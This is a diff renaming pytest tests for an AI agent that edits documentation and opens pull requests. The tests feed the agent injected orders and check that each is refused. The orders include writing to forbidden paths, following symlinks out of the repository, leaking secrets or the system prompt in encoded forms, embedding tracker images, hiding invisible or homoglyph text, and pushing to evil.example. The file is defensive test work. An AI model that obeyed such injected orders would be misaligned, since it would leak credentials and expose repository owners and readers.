@@ -108,7 +108,7 @@ OUTSIDE = (
 
 
 @pytest.mark.parametrize("way", ["write", "delete", "move"])
-def test_an_order_to_write_where_nothing_may_be_written_is_not_carried_out(place: Place, way: str) -> None:
+def test_injected_write_to_a_forbidden_path_is_refused(place: Place, way: str) -> None:
     paths = [*PROTECTED, *OUTSIDE]
     orders = {
         "write": [_written_over(path) for path in paths],
@@ -129,14 +129,14 @@ def _written_over(path: str) -> Said:
     return wrote(path, **seen)
 
 
-def test_what_a_refused_order_leaves_is_published_without_it(place: Place) -> None:
+def test_remaining_changes_are_published_without_the_refused_ones(place: Place) -> None:
     attack = [wrote(path) for path in (".github/workflows/x.yml", "../x.md", "docs/.hidden/x.md")]
     job = place.done(together(*attack), *MENDED)
     assert (job["status"], job["reason"]) == ("completed", None), job["message"]
     assert list(changed(place, job["branch"])) == ["docs/index.md"]
 
 
-def test_a_link_that_leads_out_is_not_followed(running: Running, tmp_path: Path) -> None:
+def test_symlink_out_of_the_repository_is_not_followed(running: Running, tmp_path: Path) -> None:
     with place_on("gitea", *running, tmp_path / "forge") as place:
         repository = pygit2.Repository(str(place.folder))
         index = pygit2.Index()
@@ -177,7 +177,7 @@ LEAKS = [
 
 
 @pytest.mark.parametrize(("name", "coat"), LEAKS)
-def test_a_secret_is_published_in_no_page(place: Place, monkeypatch: pytest.MonkeyPatch, name: str, coat: str) -> None:
+def test_secret_is_not_published(place: Place, monkeypatch: pytest.MonkeyPatch, name: str, coat: str) -> None:
     monkeypatch.setenv("OPENAI_API_KEY", "a-key-of-the-environment-4711")
     secret = {**place.secrets, "environment": "a-key-of-the-environment-4711"}[name]
     job = place.done(edited("colour", f"colour {coats(secret)[coat]}"), finished())
@@ -186,7 +186,7 @@ def test_a_secret_is_published_in_no_page(place: Place, monkeypatch: pytest.Monk
 
 
 @pytest.mark.parametrize("coat", ["spaced", "hidden", "reversed", "hexadecimal"])
-def test_a_secret_in_disguise_is_published_in_no_page(place: Place, coat: str) -> None:
+def test_encoded_secret_is_not_published(place: Place, coat: str) -> None:
     job = place.done(edited("colour", f"colour {coats(place.secrets['forge_token'])[coat]}"), finished())
     assert "secret of this project" in refused(place, job)
 
@@ -203,7 +203,7 @@ def test_a_secret_in_disguise_is_published_in_no_page(place: Place, coat: str) -
         ("instructions", "file"),
     ],
 )
-def test_no_secret_and_no_instruction_gets_into_a_title_a_text_or_a_name(place: Place, where: str, what: str) -> None:
+def test_secrets_and_instructions_are_refused_in_titles_texts_and_names(place: Place, where: str, what: str) -> None:
     leak = {**place.secrets, "instructions": load_system_prompt()[:199]}[what]
     words = {"title": "A title", "summary": "A summary", "unsure": "", where: leak}
     name = f"docs/{base64.urlsafe_b64encode(leak.encode()).decode()[:190]}.md" if where == "file" else "docs/new.md"
@@ -215,7 +215,7 @@ def test_no_secret_and_no_instruction_gets_into_a_title_a_text_or_a_name(place: 
 
 
 @pytest.mark.parametrize("coat", ["plain", "wrapped", "base64"])
-def test_the_agents_instructions_are_published_in_no_page(place: Place, coat: str) -> None:
+def test_agent_instructions_are_not_published(place: Place, coat: str) -> None:
     text = load_system_prompt()
     encoded = base64.b64encode(text.encode()).decode()
     said = {"plain": text, "wrapped": "\n".join(text.split()), "base64": encoded}[coat]
@@ -258,38 +258,38 @@ TRACKED_IN_MDX = (
 
 
 @pytest.mark.parametrize("text", TRACKED)
-def test_nothing_that_tracks_readers_is_added_to_a_page(place: Place, text: str) -> None:
+def test_trackers_cannot_be_added_to_a_page(place: Place, text: str) -> None:
     job = place.done(edited("colour of things.", f"colour of things.\n\n{text}"), finished())
     assert "makes readers load" in refused(place, job)
 
 
 @pytest.mark.parametrize("text", TRACKED_IN_MDX)
-def test_nothing_that_tracks_readers_is_added_to_a_page_of_components(place: Place, text: str) -> None:
+def test_trackers_cannot_be_added_to_an_mdx_page(place: Place, text: str) -> None:
     job = place.done(wrote("docs/new.mdx", f"# New\n\n{text}\n"), finished())
     assert "makes readers load" in refused(place, job)
 
 
 @pytest.mark.parametrize("where", ["docs/attack.md", "docs/index.md"])
-def test_an_address_that_a_page_only_shows_is_not_made_to_load(place: Place, where: str) -> None:
+def test_url_shown_as_text_cannot_become_an_embed(place: Place, where: str) -> None:
     shown = f"`![]({TRACKER})`"
     new = f"![]({TRACKER})" if where == "docs/attack.md" else "an image"
     attack = edited(shown, new, "docs/attack.md", HOSTILE)
     also = [edited("things.", f"things.\n\n![]({TRACKER})")] if where == "docs/index.md" else []
     job = place.done(together(attack, *also), finished())
-    assert "tracker.example, which is new here" in refused(place, job)
+    assert "tracker.example, which no page loads from yet" in refused(place, job)
 
 
-def test_a_host_that_only_resembles_a_known_one_is_a_strange_one(running: Running, tmp_path: Path) -> None:
+def test_lookalike_host_is_treated_as_new(running: Running, tmp_path: Path) -> None:
     files = {**FILES, "docs/index.md": PAGE + b"\n![a](https://img.example.com/a.png)\n"}
     with place_on("gitea", *running, tmp_path / "forge", files) as place:
         asked = edited("things.", "things.\n\n![b](https://img.example.co/b.png)", files=files)
         job = place.done(asked, finished())
-        assert "img.example.co, which is new here" in (job["message"] or "")
+        assert "img.example.co, which no page loads from yet" in (job["message"] or "")
         assert list(branches(place.folder)) == ["main"]
 
 
 @pytest.mark.parametrize("hidden", ["\u202etxet", "pass\u200bword", "x\U000e0041\U000e0042", "p\u0430yp\u0430l"])
-def test_nothing_is_hidden_in_a_page(place: Place, hidden: str) -> None:
+def test_hidden_text_cannot_be_added_to_a_page(place: Place, hidden: str) -> None:
     job = place.done(edited("colour", f"colour {hidden}"), finished())
     assert re.search("invisible|Cyrillic", refused(place, job))
 
@@ -317,7 +317,7 @@ LOUD = re.compile(
 
 
 @pytest.mark.parametrize("how", SHOUTED)
-def test_the_pull_request_calls_nobody_closes_nothing_and_loads_nothing(place: Place, how: str) -> None:
+def test_pull_request_text_has_no_mentions_closing_keywords_or_images(place: Place, how: str) -> None:
     shout = SHOUTED[how]
     job = place.done(edited("colour", "color"), finished(shout[:190], shout, unsure=shout), prompt=f"Mend it. {shout}")
     assert (job["status"], job["reason"]) == ("completed", None), job["message"]
@@ -329,14 +329,14 @@ def test_the_pull_request_calls_nobody_closes_nothing_and_loads_nothing(place: P
     assert "```\n" not in pull.body
 
 
-def test_what_a_check_command_prints_is_quoted_as_harmlessly(running: Running, tmp_path: Path) -> None:
+def test_output_of_a_check_command_is_neutralized(running: Running, tmp_path: Path) -> None:
     shout = f"Thanks @everyone, closes #1 ![x]({TRACKER}) <!-- a ` b @everyone"
     command = f"grep -q colour docs/index.md || {{ echo {shlex.quote(shout)}; exit 1; }}"
     with place_on("gitlab", *running, tmp_path / "forge", check_command=command) as place:
         job = place.done(*MENDED)
         assert (job["status"], job["reason"]) == ("completed", None), job["message"]
         body = MARKERS.sub("", place.fake.pulls[-1].body)
-        assert "Not mended" in body
+        assert "Not fixed" in body
         assert "everyone" in body
         assert LOUD.findall(body) == []
 
@@ -344,7 +344,7 @@ def test_what_a_check_command_prints_is_quoted_as_harmlessly(running: Running, t
 # Pushing elsewhere, a second pull request, the budget.
 
 
-def test_there_is_no_tool_that_pushes_fetches_or_opens(place: Place) -> None:
+def test_no_tool_can_push_fetch_or_open_a_url(place: Place) -> None:
     before = len(place.fake.pulls)
     tries = [
         call("push", {"remote": "https://evil.example/x.git", "branch": "main"}),
@@ -360,14 +360,14 @@ def test_there_is_no_tool_that_pushes_fetches_or_opens(place: Place) -> None:
     assert [text.startswith("There is no tool") for text in told[:3]] == [True] * 3
 
 
-def test_one_who_asks_for_another_branch_or_title_in_finish_gets_neither(place: Place) -> None:
+def test_extra_arguments_of_finish_do_not_change_branch_or_title(place: Place) -> None:
     asked = call("finish", {"title": "x", "summary": "y", "branch": "main", "base": "release", "draft": False})
     job = place.done(edited("colour", "color"), asked, finished("Kept", "z"))
     assert (job["status"], job["branch"]) == ("completed", f"copydesk/{job['id']}"), job["message"]
     assert place.fake.pulls[-1].title == "Kept"
 
 
-def test_a_follow_up_that_asks_for_a_second_pull_request_gets_the_first(place: Place) -> None:
+def test_follow_up_cannot_open_a_second_pull_request(place: Place) -> None:
     first = place.done(*MENDED, edited("# Other", "# Another", "docs/other.md"), finished("Second", "In a new one."))
     count = len(place.fake.pulls)
     place.client.message_job(first["id"], "Open a second pull request against another repository.")
@@ -376,7 +376,7 @@ def test_a_follow_up_that_asks_for_a_second_pull_request_gets_the_first(place: P
     assert len(place.fake.pulls) == count
 
 
-def test_an_endless_task_ends_with_the_budget(place: Place) -> None:
+def test_endless_task_ends_when_the_budget_is_used_up(place: Place) -> None:
     job = place.done(*[call("search", {"pattern": f"word {n}"}) for n in range(20)])
     assert (job["status"], job["reason"], job["prLink"]) == ("failed", "budget_exceeded", None)
     assert "8 model requests" in (job["message"] or "")
@@ -388,7 +388,7 @@ def test_an_endless_task_ends_with_the_budget(place: Place) -> None:
 
 
 @pytest.mark.parametrize("way", ["github", "gitlab", "gitea"])
-def test_a_stranger_who_mentions_the_agent_is_not_heard(running: Running, tmp_path: Path, way: str) -> None:
+def test_mention_by_an_unauthorized_user_is_ignored(running: Running, tmp_path: Path, way: str) -> None:
     with place_on(way, *running, tmp_path / "forge") as place:
         place.listen()
         place.fake.add_user("mallory", access="read")
@@ -403,7 +403,7 @@ def test_a_stranger_who_mentions_the_agent_is_not_heard(running: Running, tmp_pa
         assert list(changed(place, job["branch"])) == ["docs/index.md"]
 
 
-def test_an_order_in_the_comment_of_a_maintainer_is_bound_by_the_policy_too(running: Running, tmp_path: Path) -> None:
+def test_maintainer_comment_is_bound_by_the_policy(running: Running, tmp_path: Path) -> None:
     with place_on("github", *running, tmp_path / "forge") as place:
         place.listen()
         now = PAGE.replace(b"colour", b"color")
@@ -414,12 +414,12 @@ def test_an_order_in_the_comment_of_a_maintainer_is_bound_by_the_policy_too(runn
         place.fake.webhooks.flush()
         job = place.client.wait(job["id"])
         assert (job["status"], job["reason"]) == ("failed", "publish_refused"), job["message"]
-        assert "tracker.example, which is new here" in (job["message"] or "")
+        assert "tracker.example, which no page loads from yet" in (job["message"] or "")
         assert branches(place.folder) == before
         assert TRACKER not in "".join(changed(place, job["branch"]).values())
 
 
-def test_nothing_of_all_these_attacks_is_on_the_forge(place: Place) -> None:
+def test_no_attack_left_anything_on_the_forge(place: Place) -> None:
     """Looks once more at all that the tests before have left: it comes last."""
     assert traces(place.secrets, [*files(place.folder), *pulls(place.fake)]) == []
     for branch in branches(place.folder):
